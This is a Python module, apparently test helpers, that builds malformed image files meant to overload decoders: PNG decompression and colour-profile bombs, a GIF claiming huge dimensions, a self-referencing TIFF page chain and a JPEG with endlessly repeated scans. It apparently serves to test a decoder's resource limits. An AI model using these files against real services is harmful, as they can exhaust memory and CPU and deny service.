"""Files that are made to harm whoever decodes them."""

import io
import struct
import zlib

from PIL import Image


def chunk(kind, content):
    """One chunk of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width, height, pixels=b"", *chunks):
    """A PNG, RGB with 8 bits, with these bytes for its pixels and these chunks before them."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [chunk(b"IHDR", head), *chunks, chunk(b"IDAT", zlib.compress(pixels)), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def bomb(side):
    """A whole PNG of side x side black pixels in few bytes."""
    row = b"\0" * (1 + 3 * side)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def profile_bomb(size):
    """A small PNG whose colour profile unpacks to this many bytes."""
    return png(8, 8, b"\0" * 8 * 25, chunk(b"iCCP", b"x\0\0" + zlib.compress(b"\0" * size, 9)))


def gif_header(width, height):
    """A GIF that says it is this large, and holds nothing."""
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0" * 6 + b"\x2c" + b"\0" * 9 + b"\x3b"


def circular_tiff():
    """A TIFF whose first page names itself as the next one."""
    file = io.BytesIO()
    Image.new("RGB", (8, 8)).save(file, "TIFF")
    data = bytearray(file.getvalue())
    (first,) = struct.unpack_from("<I", data, 4)
    (entries,) = struct.unpack_from("<H", data, first)
    struct.pack_into("<I", data, first + 2 + 12 * entries, first)
    return bytes(data)


def endless_scans(side, scans):
    """A progressive JPEG that repeats its last scan: each one costs the decoder a pass over the whole image."""
    file = io.BytesIO()
    Image.new("RGB", (side, side), (90, 120, 30)).save(file, "JPEG", progressive=True)
    data = file.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * (scans - 1) + data[-2:]
